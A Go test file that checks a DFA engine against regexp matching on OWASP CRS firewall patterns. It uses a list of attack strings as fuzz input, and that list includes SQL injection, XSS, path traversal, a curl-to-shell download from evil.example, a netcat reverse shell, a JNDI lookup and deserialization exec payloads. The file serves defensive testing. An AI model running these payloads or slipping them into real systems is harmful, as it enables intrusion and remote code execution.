package dfa

import (
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// attackValues are strings that CRS's patterns are about.
var attackValues = strings.Split(strings.TrimSpace(`
1' OR '1'='1' -- -
1 UNION ALL SELECT username, password FROM users WHERE id=1;#
'; exec xp_cmdshell('dir'); waitfor delay '0:0:5' --
<script>alert(document.cookie)</script>
<img src=x onerror="javascript:alert(1)" style="width:expression(alert(1))">
../../../../etc/passwd%00
;cat /etc/passwd|wc -l && curl http://evil.example/x.sh | sh
$(nc -e /bin/sh 10.0.0.1 4444) b"u's'y"b\o'x cp
${jndi:ldap://evil.example/a} {{7*7}} <%= system('id') %>
O:8:"stdClass":1:{s:3:"foo";s:3:"bar";} php://filter/convert.base64-encode/resource=index.php
_$$ND_FUNC$$_function(){require('child_process').exec('ls')}() __proto__[constructor]
GET / HTTP/1.1 Set-Cookie: a=b Content-Length: 0
java.lang.Runtime.getRuntime().exec("id") rO0ABXNy
(|(uid=*)(objectClass=*)) &(cn=admin)
\x5cu003cscript %u003c &#x3c; +ADw-script+AD4- `+"\xbcscript\xbe \xac\xed\x00\x05 \xe2\x80\x99"), "\n")

// crsValues mixes innocent and evil text, cut and joined at random places.
func crsValues(n int) []string {
	var parts []string
	for v := range sampleValues {
		parts = append(parts, v)
	}
	parts = append(parts, attackValues...)
	files, _ := filepath.Glob("../../../../shared/corpora/sqli-xss/*.txt")
	r := rand.New(rand.NewPCG(1, 2))
	for _, name := range files {
		text, _ := os.ReadFile(name)
		lines := strings.Split(string(text), "\n")
		for range 150 {
			parts = append(parts, lines[r.IntN(len(lines))])
		}
	}
	values := append([]string{""}, parts...)
	for len(values) < n {
		a, b := parts[r.IntN(len(parts))], parts[r.IntN(len(parts))]
		values = append(values, a[:r.IntN(len(a)+1)]+b[r.IntN(len(b)+1):])
	}
	return values[:n]
}

func TestEveryPatternOfCRSMatchesWhereRegexpDoes(t *testing.T) {
	n := 800
	if testing.Short() {
		n = 300
	}
	o := newOracle(t, crsTexts(t, "4", false), NewBudget(64<<20))
	inexact := 0
	for _, v := range crsValues(n) {
		if !o.agrees(t, v) {
			inexact++
		}
	}
	require.Less(t, inexact, n/10, "the credit is for more than this")
	t.Logf("%d values, %d inexact, %+v", n, inexact, o.set.Stats())
}
